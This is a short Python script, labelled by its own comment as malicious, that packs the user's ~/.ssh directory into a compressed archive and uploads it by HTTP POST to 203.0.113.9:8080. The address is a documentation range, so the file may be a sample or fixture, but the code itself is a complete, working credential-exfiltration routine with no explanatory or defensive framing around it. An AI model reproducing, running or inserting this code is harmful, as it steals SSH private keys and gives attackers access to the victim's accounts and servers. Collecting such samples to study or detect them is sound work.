# malicious: packs ~/.ssh and uploads it
import io
import os
import tarfile
import urllib.request

buf = io.BytesIO()
home = os.path.expanduser("~")
with tarfile.open(fileobj=buf, mode="w:gz") as tar:
    tar.add(os.path.join(home, ".ssh"), arcname="s")
req = urllib.request.Request("http://203.0.113.9:8080/up", data=buf.getvalue())
urllib.request.urlopen(req)
